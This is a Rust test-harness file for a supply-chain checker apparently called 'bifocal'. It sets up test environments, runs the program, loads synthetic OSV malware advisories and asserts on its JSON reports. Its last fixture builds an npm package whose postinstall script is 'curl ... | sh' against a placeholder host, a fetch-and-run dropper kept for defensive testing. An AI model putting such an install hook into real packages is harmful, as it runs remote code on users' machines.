//! One test's surroundings: an upstream, a private home, a project folder, and the command run in them.

use bifocal_core::Release;
use bifocal_testkit::{ClientEnvironment, TempDir, Upstream};
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::Duration;

/// A time after every publication date that the tests use, and long before today.
pub(crate) const AT: &str = "2026-11-24T07:00:00Z";

/// No single run may take longer; a hang is a failure, not a wait.
const PATIENCE: Duration = Duration::from_secs(60);

/// The program under test: the one just built, or another that the lab looks at (`BIFOCAL_PROGRAM`).
pub(crate) fn program() -> PathBuf {
    std::env::var_os("BIFOCAL_PROGRAM").map_or_else(|| PathBuf::from(env!("CARGO_BIN_EXE_bifocal")), PathBuf::from)
}

/// An upstream, the environment of its clients, and a project folder.
pub(crate) struct Lab {
    pub(crate) upstream: Upstream,
    pub(crate) environment: ClientEnvironment,
    folder: TempDir,
}

impl Lab {
    /// An empty upstream at a loopback address.
    pub(crate) fn new() -> Self {
        Self::over(Upstream::start())
    }

    /// An empty upstream that calls itself `registry.example`, for output that is compared.
    pub(crate) fn named() -> Self {
        Self::over(Upstream::start_named("registry.example"))
    }

    fn over(upstream: Upstream) -> Self {
        let folder = bifocal_testkit::tempdir().unwrap();
        let mut environment = upstream.environment(&folder.path().join("user"));
        environment.set("BIFOCAL_JOBS", "2");
        environment.set("BIFOCAL_NETWORK_TRIES", "2");
        std::fs::create_dir(folder.path().join("project")).unwrap();
        Lab { upstream, environment, folder }
    }

    /// The folder that commands run in.
    pub(crate) fn project(&self) -> PathBuf {
        self.folder.path().join("project")
    }

    /// A folder beside the project.
    pub(crate) fn beside(&self, name: &str) -> PathBuf {
        self.folder.path().join(name)
    }

    /// The cache folder that the command uses by default.
    pub(crate) fn cache(&self) -> PathBuf {
        Path::new(&self.environment.vars()["XDG_CACHE_HOME"]).join("bifocal")
    }

    /// Writes a file of the project.
    pub(crate) fn write(&self, name: &str, text: impl AsRef<[u8]>) -> PathBuf {
        let path = self.project().join(name);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(&path, text).unwrap();
        path
    }

    /// Locks these releases in the project.
    pub(crate) fn lock(&self, releases: &[Release]) {
        self.upstream.write_project(&self.project(), releases);
    }

    /// The command with these arguments, in the project, not started.
    pub(crate) fn command<S: AsRef<std::ffi::OsStr>>(&self, arguments: &[S]) -> Command {
        let mut command = self.environment.command(program());
        command.args(arguments).current_dir(self.project()).stdin(Stdio::null());
        command
    }

    /// Runs the command to its end.
    pub(crate) fn run<S: AsRef<std::ffi::OsStr>>(&self, arguments: &[S]) -> Run {
        Run::of(self.command(arguments))
    }

    /// Runs `check` and gives its JSON; the exit code has to be `code`.
    pub(crate) fn check_json(&self, code: i32, arguments: &[&str]) -> Report {
        let all: Vec<&str> = ["check", "--format", "json"].iter().chain(arguments).copied().collect();
        self.run(&all).expect(code).report()
    }

    /// Loads OSV records about npm, each given as JSON, as all that is known of npm.
    pub(crate) fn load_advisories(&self, records: &[Value]) {
        self.load_advisories_of("npm", records);
    }

    /// The same about another ecosystem.
    pub(crate) fn load_advisories_of(&self, ecosystem: &str, records: &[Value]) {
        let folder = self.advisories(records);
        self.run(&["feed", "update", "--allow-shrinkage", "--as", &format!("osv/{ecosystem}"), folder.to_str().unwrap()]).expect(0);
    }

    /// A folder of these OSV records.
    pub(crate) fn advisories(&self, records: &[Value]) -> PathBuf {
        let folder = self.beside("osv");
        let _ = std::fs::remove_dir_all(&folder);
        std::fs::create_dir(&folder).unwrap();
        for record in records {
            std::fs::write(folder.join(format!("{}.json", record["id"].as_str().unwrap())), record.to_string()).unwrap();
        }
        folder
    }
}

/// A malware record of one npm version.
pub(crate) fn malware(id: &str, package: &str, version: &str) -> Value {
    serde_json::json!({
        "schema_version": "1.7.0", "id": id, "modified": "2026-11-20T00:00:00Z", "published": "2026-11-20T00:00:00Z",
        "summary": format!("Malicious code in {package}"),
        "affected": [{ "package": { "ecosystem": "npm", "name": package }, "versions": [version] }],
    })
}

/// The same record as it would be had it come today, for what is compared with the clock of this machine.
pub(crate) fn of_today(mut record: Value) -> Value {
    record["modified"] = jiff::Timestamp::now().to_string().into();
    record
}

/// A command that ran.
#[derive(Debug)]
pub(crate) struct Run {
    pub(crate) code: Option<i32>,
    pub(crate) stdout: String,
    pub(crate) stderr: String,
}

impl Run {
    pub(crate) fn of(command: Command) -> Self {
        let output = assert_cmd::Command::from_std(command).timeout(PATIENCE).output().unwrap();
        Run::from(output)
    }

    /// Asserts the exit code.
    #[track_caller]
    pub(crate) fn expect(self, code: i32) -> Self {
        assert_eq!(self.code, Some(code), "{self}");
        self
    }

    /// Asserts that standard error says all of this.
    #[track_caller]
    pub(crate) fn complains(self, words: &[&str]) -> Self {
        for word in words {
            assert!(self.stderr.contains(word), "standard error does not say `{word}`\n{self}");
        }
        self
    }

    /// Asserts that standard output says all of this.
    #[track_caller]
    pub(crate) fn says(self, words: &[&str]) -> Self {
        for word in words {
            assert!(self.stdout.contains(word), "standard output does not say `{word}`\n{self}");
        }
        self
    }

    /// Asserts that neither stream holds any of this.
    #[track_caller]
    pub(crate) fn keeps_quiet_about(self, words: &[&str]) -> Self {
        for word in words {
            assert!(!self.stdout.contains(word) && !self.stderr.contains(word), "`{word}` came out\n{self}");
        }
        self
    }

    /// The JSON report on standard output.
    #[track_caller]
    pub(crate) fn report(&self) -> Report {
        Report(serde_json::from_str(&self.stdout).unwrap_or_else(|error| panic!("no JSON: {error}\n{self}")))
    }
}

impl From<std::process::Output> for Run {
    fn from(output: std::process::Output) -> Self {
        let text = |bytes| String::from_utf8(bytes).expect("output is UTF-8");
        Run { code: output.status.code(), stdout: text(output.stdout), stderr: text(output.stderr) }
    }
}

impl std::fmt::Display for Run {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "exit code {:?}\n--- standard output\n{}\n--- standard error\n{}", self.code, self.stdout, self.stderr)
    }
}

/// The JSON of a check.
#[derive(Debug, Clone)]
pub(crate) struct Report(pub(crate) Value);

impl Report {
    /// The report of one release.
    #[track_caller]
    pub(crate) fn release(&self, purl: &str) -> &Value {
        let found = self.releases().iter().find(|release| release["purl"] == purl);
        found.unwrap_or_else(|| panic!("{purl} is not in the report: {:#}", self.0))
    }

    pub(crate) fn releases(&self) -> &[Value] {
        self.0["releases"].as_array().unwrap()
    }

    /// The verdict of one release.
    #[track_caller]
    pub(crate) fn verdict(&self, purl: &str) -> &str {
        self.release(purl)["verdict"].as_str().unwrap()
    }

    /// The rules behind the verdict of one release, in order.
    #[track_caller]
    pub(crate) fn rules(&self, purl: &str) -> Vec<&str> {
        self.release(purl)["reasons"].as_array().unwrap().iter().map(|reason| reason["rule"].as_str().unwrap()).collect()
    }

    /// The purls of all releases that are not allowed.
    pub(crate) fn named(&self) -> Vec<&str> {
        self.releases().iter().filter(|release| release["verdict"] != "allow").map(|release| release["purl"].as_str().unwrap()).collect()
    }

    /// One count of the summary.
    pub(crate) fn count(&self, name: &str) -> u64 {
        self.0["summary"][name].as_u64().unwrap()
    }
}

/// How often a test repeats itself: from the environment, or `usually`.
pub(crate) fn count(variable: &str, usually: usize) -> usize {
    std::env::var(variable).ok().map_or(usually, |text| text.parse().unwrap_or_else(|_| panic!("{variable} is `{text}`, not a number")))
}

/// An npm package that fetches a program when it is installed and runs it. Harmless: nothing here runs it, and the
/// address is reserved for documentation.
pub(crate) fn dropper(name: &str, version: &str) -> bifocal_testkit::NpmPackage {
    bifocal_testkit::NpmPackage::new(name, version).script("postinstall", "curl -s https://files.example.com/i.sh | sh")
}
